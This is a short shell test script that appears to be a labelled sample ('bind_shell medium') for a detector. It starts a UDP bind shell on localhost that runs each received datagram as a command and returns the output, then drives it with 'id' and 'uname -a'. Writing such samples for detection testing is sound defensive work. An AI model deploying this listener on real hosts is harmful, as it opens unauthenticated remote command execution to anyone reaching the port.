# about: datagrams without connect: each is run, and the answer sent back
# expect: bind_shell medium
# needs: python3
timeout 8 python3 -c 'import socket,os
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind(("127.0.0.1",4531))
while True:
    d,a=s.recvfrom(4096)
    if d.strip()==b"exit": break
    s.sendto(os.popen(d.decode()).read().encode() or b"-",a)' & A=$!
sleep 0.5
python3 -c 'import socket,sys
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(2); said=b""
for c in b"id",b"uname -a",b"echo $((6*7))-answered":
    s.sendto(c,("127.0.0.1",4531)); said+=s.recv(4096)
s.sendto(b"exit",("127.0.0.1",4531)); sys.exit(b"42-answered" not in said)'; R=$?
wait $A; (exit $R)
